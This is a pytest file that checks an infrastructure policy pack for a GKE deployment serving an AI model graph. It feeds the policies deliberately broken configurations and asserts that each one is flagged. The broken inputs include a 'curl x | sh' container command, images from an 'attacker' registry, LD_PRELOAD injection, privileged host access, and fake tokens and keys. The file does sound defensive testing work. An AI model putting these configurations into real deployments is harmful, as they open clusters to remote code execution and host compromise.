"""Each clause of a rule's description holds: the rule stops a stack that breaks the clause."""

import re
from collections.abc import Callable
from typing import Any

import pytest

from ops.offline.recorded import Recording
from ops.offline.verdicts import judge
from policies.rules import RULES
from tests.policies.mutations import (
    added,
    changed,
    independent,
    prod,
    unprotected,
    with_extra_args,
    with_gateway,
    without,
)

Break = Callable[[], Recording]
DAEMON = "kubernetes:apps/v1:DaemonSet"
GRAPH = ("DynamoGraphDeployment", "chat-graph")
FRONTEND, PREFILL, DECODE = (f"spec.components[{i}].podTemplate.spec" for i in range(3))
CLUSTER, POOL = (":Cluster", "cluster-cluster"), (":NodePool", "prefill-pool")
SYSTEM, ROLE = (":NodePool", "system-pool"), (":Role", "chat-proof-role")
BINDING, NODES = (":RoleBinding", "chat-proof-binding"), (":IAMMember", "nodes-reader")
RELEASE = (":Release", "platform-release")
ENFORCE = "pod-security.kubernetes.io/enforce"
RULE = {"apiGroups": [""], "resources": ["pods"], "verbs": ["list"]}
NEIGHBOUR = {"podSelector": {}, "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "default"}}}
KV = '{"kv_connector":"NixlConnector","kv_role":"kv_consumer"}'


def of(kind: tuple[str, str], path: str, value: Any) -> Break:
    return lambda: changed(prod(), *kind, path, value)


def public(suffix: str, name: str, path: str, value: Any) -> Break:
    return lambda: changed(with_gateway(), suffix, name, path, value)


def new(kind: str, inputs: dict[str, Any]) -> Break:
    return lambda: added(prod(), kind, inputs)


def pod(**spec: Any) -> Break:
    container = {"name": "main", "image": "tool:1.2.3"}
    return new(DAEMON, {"metadata": {"name": "x"}, "spec": {"template": {"spec": {"containers": [container], **spec}}}})


def container(**fields: Any) -> Break:
    return pod(containers=[{"name": "main", "image": "tool:1.2.3", **fields}])


def policy(ingress: list[dict[str, Any]], selector: dict[str, Any] | None = None) -> Break:
    spec = {"podSelector": selector or {}, "policyTypes": ["Ingress"], "ingress": ingress}
    metadata = {"name": "x", "namespace": "dynamo"}
    return new("kubernetes:networking.k8s.io/v1:NetworkPolicy", {"metadata": metadata, "spec": spec})


# Rule → its clauses, each with stacks that break it.
CLAUSES: dict[str, dict[str, list[Break]]] = {
    "known-kinds": {
        "Every resource has a type that the rules of this pack check": [
            new("gcp:compute/instance:Instance", {}), new("kubernetes:core/v1:ServiceList", {}),
        ],
    },
    "known-inputs": {
        "Every resource sets only inputs that this program sets itself": [
            of(CLUSTER, "anonymousAuthenticationConfig", {"mode": "ENABLED"}),
            of(POOL, "nodeConfig.metadata.startup-script", "true"),
            of((":Job", "chat-proof-job"), "spec.suspend", True),
        ],
    },
    "known-charts": {
        "The only Helm chart is the Dynamo chart": [
            of(RELEASE, "chart", "oci://ghcr.io/x/y"), of(RELEASE, "name", "second"),
            of(RELEASE, "createNamespace", True), of(RELEASE, "postrender", "./x"),
        ],
        "from a known place": [of(RELEASE, "chart", "https://example.com/dynamo-platform-1.6.1.tgz")],
        "with the values of this program": [
            of(RELEASE, "values.global.etcd.install", True), of(RELEASE, "values", {}),
        ],
    },
    "private-cluster": {
        "Nodes have no public addresses": [
            of(CLUSTER, "privateClusterConfig", None), of(POOL, "networkConfig.enablePrivateNodes", False),
        ],
        "the control plane is reachable only by its DNS endpoint": [
            of(CLUSTER, "controlPlaneEndpointsConfig.ipEndpointsConfig.enabled", True),
            of(CLUSTER, "controlPlaneEndpointsConfig", None),
        ],
    },
    "protected": {
        "weights": [
            lambda: unprotected(prod(), ":Bucket", "weights-bucket"),
            of((":Bucket", "weights-bucket"), "lifecycleRules", [{"action": {"type": "Delete"}}]),
        ],
        "cluster": [lambda: unprotected(prod(), *CLUSTER), of(CLUSTER, "deletionProtection", False)],
        "GPU pools": [lambda: unprotected(prod(), *POOL)],
    },
    "node-identity": {
        "Nodes run as a service account of their project": [
            of(POOL, "nodeConfig.serviceAccount", "x@other.iam.gserviceaccount.com"),
            of(POOL, "nodeConfig.serviceAccount", None),
        ],
        "never as its default account": [
            of(SYSTEM, "nodeConfig.serviceAccount", "1-compute@developer.gserviceaccount.com"),
            of(SYSTEM, "nodeConfig.serviceAccount", "default"),
        ],
        "a service agent": [of(SYSTEM, "nodeConfig.serviceAccount", "service-1@my-project.iam.gserviceaccount.com")],
    },
    "hardened-nodes": {
        "Clusters have no default pool": [
            of(CLUSTER, "removeDefaultNodePool", False), of(CLUSTER, "removeDefaultNodePool", None),
            of(CLUSTER, "initialNodeCount", 50),
            of(CLUSTER, "nodeConfig.guestAccelerators", [{"type": "nvidia-h200-141gb", "count": 8}]),
        ],
        "Workload Identity": [
            of(CLUSTER, "workloadIdentityConfig", None),
            of(POOL, "nodeConfig.workloadMetadataConfig.mode", "GCE_METADATA"),
        ],
        "shielded nodes": [
            of(CLUSTER, "enableShieldedNodes", False),
            of(POOL, "nodeConfig.shieldedInstanceConfig.enableSecureBoot", False),
            of(POOL, "nodeConfig.shieldedInstanceConfig", None),
        ],
        "a closed kubelet": [of(POOL, "nodeConfig.kubeletConfig.insecureKubeletReadonlyPortEnabled", "TRUE")],
    },
    "no-service-account-key": {
        "No service account has a key": [new("gcp:serviceaccount/key:Key", {})],
        "not even an HMAC key": [new("gcp:storage/hmacKey:HmacKey", {})],
    },
    "private-bucket": {
        "Buckets have uniform access": [of((":Bucket", "weights-bucket"), "uniformBucketLevelAccess", False)],
        "cannot be made public": [of((":Bucket", "weights-bucket"), "publicAccessPrevention", "inherited")],
    },
    "labelled": {
        "Resources that cost money have labels that name their owner": [
            of(CLUSTER, "resourceLabels", {"owner": "me"}), of(POOL, "nodeConfig.resourceLabels", {}),
            of(GRAPH, "metadata.labels", {}), of((":gcp", "google"), "defaultLabels", "{}"),
        ],
    },
    "known-grants": {
        "Each grant gives an account of the project": [
            of(NODES, "member", "serviceAccount:x@other.iam.gserviceaccount.com"),
            of(NODES, "member", "allUsers"), of(NODES, "member", "group:all@example.com"),
            of(NODES, "member", "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/x/*"),
        ],
        "no default account": [of(NODES, "member", "serviceAccount:1-compute@developer.gserviceaccount.com")],
        "a role that the program needs": [of(NODES, "role", "roles/owner")],
    },
    "known-roles": {
        "Roles allow reading": [
            of(ROLE, "rules", [{**RULE, "verbs": verbs}]) for verbs in (["*"], ["create"], ["list", "delete"], ["bind"])
        ],
        "never secrets": [
            of(ROLE, "rules", [{**RULE, "resources": resources}])
            for resources in (["secrets"], ["*"], ["pods", "pods/exec"], ["services/proxy"])
        ],
        "are bound to ServiceAccounts": [
            of(BINDING, "subjects[0]", {"kind": "Group", "name": "system:serviceaccounts"}),
            of(BINDING, "roleRef", {"kind": "ClusterRole", "name": "view"}),
        ],
        "of their namespace only": [of(BINDING, "subjects[0].namespace", "elsewhere")],
    },
    "inner-sources": {
        "Firewall rules allow packets from private networks and from Google's health checks only": [
            of((":Firewall", "network-webhook"), "sourceRanges", ["8.8.8.0/24"]),
            of((":Firewall", "network-webhook"), "sourceRanges", []),
        ],
    },
    "named-peers": {
        "NetworkPolicies let in selected pods": [
            policy([{"from": [{"podSelector": {}}]}]), policy([{"from": [{"namespaceSelector": {}}]}]), policy([{}]),
        ],
        "private ranges and Google's health checks only": [policy([{"from": [{"ipBlock": {"cidr": "8.8.8.0/24"}}]}])],
    },
    "gpu-budget": {
        "The stack's GPU nodes stay within its budget": [of(POOL, "nodeCount", 9)],
        "even fully scaled up": [of(POOL, "autoscaling", {"totalMaxNodeCount": 9})],
    },
    "capacity-mode": {
        "GPU pools use only capacity modes that this environment allows": [
            of(POOL, "nodeConfig.flexStart", True),
            of(POOL, "nodeConfig.resourceLabels.dynamo-gke-capacity", None),
            of(POOL, "nodeConfig.resourceLabels.dynamo-gke-capacity", "unheard-of"),
            of(POOL, "nodeConfig.resourceLabels.dynamo-gke-capacity", "spot"),
        ],
    },
    "no-gpu-surge": {
        "Upgrades of GPU pools never need a spare node": [
            of(POOL, "upgradeSettings.maxSurge", 1), of(POOL, "upgradeSettings", None),
            of(POOL, "upgradeSettings.strategy", "BLUE_GREEN"),
        ],
    },
    "pinned": {
        "Images and charts have a version": [
            container(image="tool"), of(GRAPH, f"{PREFILL}.containers[0].image", "tool:main"),
            of(RELEASE, "version", None),
        ],
    },
    "no-host-access": {
        "no privilege": [container(securityContext={"privileged": True})],
        "capability": [container(securityContext={"capabilities": {"add": ["NET_ADMIN"]}})],
        "namespace": [pod(hostPID=True), pod(hostIPC=True), pod(hostNetwork=True)],
        "port": [container(ports=[{"containerPort": 80, "hostPort": 80}])],
        "path of it": [pod(volumes=[{"name": "x", "hostPath": {"path": "/"}}])],
    },
    "no-foreign-code": {
        "Engines run only the code of their image": [
            lambda: with_extra_args("--trust-remote-code"), lambda: with_extra_args("--worker-cls", "a.B"),
            lambda: with_extra_args("--trust_remote_code"), lambda: with_extra_args("--trust-remote-c"),
            of(GRAPH, f"{PREFILL}.containers[0].env[0]", {"name": "LD_PRELOAD", "value": "/models/x.so"}),
            of(GRAPH, f"{PREFILL}.containers[0].lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
        ],
        "workers of graphs are engines of the catalog": [
            of(GRAPH, f"{PREFILL}.containers[0].command", ["sh", "-c", "curl x | sh; exec python3 -m dynamo.vllm"]),
            of(GRAPH, f"{PREFILL}.containers[0].image", "docker.io/attacker/vllm:1.6.1"),
            of(GRAPH, f"{PREFILL}.containers", []),
        ],
    },
    "no-plain-secret": {
        "No input holds a token": [container(env=[{"name": "X", "value": "hf_" + "aB3" * 12}])],
        "a private key in plain text": [
            container(env=[{"name": "X", "value": "-----BEGIN RSA PRIVATE" + " KEY-----\nx"}]),
        ],
    },
    "pod-security": {
        "Namespaces enforce at least baseline": [
            new("kubernetes:core/v1:Namespace", {"metadata": {"name": "x"}}),
            new("kubernetes:core/v1:Namespace", {"metadata": {"name": "x", "labels": {ENFORCE: "privileged"}}}),
        ],
        "with RDMA, by an admission policy instead of the label": [
            lambda: without(prod(), ":ValidatingAdmissionPolicy"),
            lambda: without(prod(), ":ValidatingAdmissionPolicyBinding"),
        ],
    },
    "internal-service": {
        "Services are reachable only inside the VPC": [
            new("kubernetes:core/v1:Service", {"spec": {"type": "LoadBalancer"}}),
            new("kubernetes:core/v1:Service", {"spec": {"type": "NodePort"}}),
            new("kubernetes:core/v1:Service", {"spec": {"externalIPs": ["8.8.8.8"]}}),
            of((":Service", "chat-endpoint-service"), "spec.loadBalancerClass", "networking.gke.io/l4-external"),
        ],
    },
    "no-admin-api": {
        "No frontend has its admin API on": [of(GRAPH, f"{FRONTEND}.containers[0].env", [])],
        "has a variable": [of(GRAPH, "spec.env", [{"name": "DYN_ENABLE_RL", "value": "1"}])],
        "flag that the program does not set": [of(GRAPH, f"{FRONTEND}.containers[0].args", ["--kserve-grpc-server"])],
    },
    "public-gateway": {
        "A public gateway uses TLS": [
            public(":Gateway", "gateway-gateway", "spec.listeners[0].protocol", "HTTP"),
        ],
        "routes only /v1/": [public(":HTTPRoute", "chat-endpoint-route", "spec.rules[0].matches[0].path.value", "/")],
        "admits only known address ranges": [
            public("RegionSecurityPolicy", "gateway-clients", "rules[0].match.config.srcIpRanges", ["0.0.0.0/1"]),
            public("RegionSecurityPolicy", "gateway-clients", "region", "us-central1"),
            public(":Gateway", "gateway-gateway", "spec.gatewayClassName", "gke-l7-global-external-managed"),
        ],
    },
    "proven": {
        "Every graph has a Job": [lambda: without(prod(), ":Job")],
        "that verifies that the graph serves": [
            of((":Job", "chat-proof-job"), "spec.template.spec.containers[0].args", []),
            of((":Job", "chat-proof-job"), "spec.template.spec.containers[0].command", ["true"]),
            of((":Job", "chat-proof-job"), "spec.suspend", True),
            of((":Job", "chat-proof-job"), "spec.parallelism", 0),
            of((":Job", "chat-proof-job"), "spec.template.spec.containers[0].env", [{"name": "PYTHONPATH"}]),
            of((":Job", "chat-proof-job"), "spec.template.spec.containers[0].image", "docker.io/attacker/x:1.6.1"),
            of((":ConfigMap", "chat-proof-script"), "data", {"__main__.py": "print('verified')"}),
        ],
    },
    "kv-transfer": {
        "KV transfer is configured on both sides of a disaggregated graph": [
            of(GRAPH, f"{PREFILL}.containers[0].args", []), of(GRAPH, f"{DECODE}.containers[0].args", []),
        ],
        "in roles that match": [of(GRAPH, f"{PREFILL}.containers[0].args", ["--kv-transfer-config", KV])],
    },
    "nic-per-gpu": {
        "Workers that move KV cache get the RDMA NICs of their GPUs": [of(GRAPH, f"{PREFILL}.resourceClaims", [])],
    },
    "monitored": {
        "The metrics of every part of every graph are collected": [lambda: without(prod(), ":PodMonitoring")],
    },
    "graph-before-operator": {
        "Graphs are deleted before the operator that has to clean up after them": [
            lambda: independent(prod(), ":ServingGraph", "chat", but_for=":NetworkPolicy"),
        ],
    },
    "fenced": {
        "NetworkPolicies close the namespace of every graph": [
            of((":NetworkPolicy", "policies-default-deny"), "spec.policyTypes", ["Egress"]),
        ],
        "before it serves": [lambda: independent(prod(), ":ServingGraph", "chat", but_for=":Release")],
        "open no graph to everyone": [policy([{}])],
        "no worker to addresses": [policy([{"from": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}])],
        "neither to peers": [policy([{"from": [NEIGHBOUR], "ports": [{"protocol": "TCP", "port": 8000}]}])],
        "on ports that the program does not open": [
            of((":NetworkPolicy", "policies-chat-clients"), "spec.ingress[0].ports", [{"protocol": "TCP"}]),
        ],
    },
    "has-budget": {
        "The environment has a billing budget that sends warnings": [lambda: without(prod(), ":Budget")],
    },
}  # fmt: skip
# The parts of a description that are not clauses: subjects and reasons.
ASIDE = {
    "Expensive resources cannot be deleted by mistake:",
    "they and their pools have",
    "an image's tag can still be moved by its publisher",
    "Pods get no access to their node:",
    "ClusterIP, or an internal load balancer",
    "the stack says kvTransfer: tcp",
}
CASES = [
    (rule, clause, broken) for rule, clauses in CLAUSES.items() for clause in clauses for broken in clauses[clause]
]


@pytest.mark.parametrize(("rule", "clause", "broken"), CASES)
def test_every_clause_is_held(rule: str, clause: str, broken: Break) -> None:
    config: dict[str, Any] = {
        "has-budget": {"required": True, "enforcementLevel": "mandatory"},
        "gpu-budget": {"nodes": 4},
    }
    config["capacity-mode"] = {"allowed": ["reservation"]}
    before = {v.message for v in judge(prod(), config) if v.policy == rule}
    found = [v for v in judge(broken(), config) if v.policy == rule and v.message not in before]
    assert found, clause
    assert all(v.mandatory for v in found)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.name)
def test_the_clauses_are_the_whole_description(rule: Any) -> None:
    left = rule.description
    for clause in sorted((*CLAUSES[rule.name], *ASIDE), key=len, reverse=True):
        left = left.replace(clause, "")
    assert set(re.findall(r"\w+", left)) <= {"and", "or"}, left
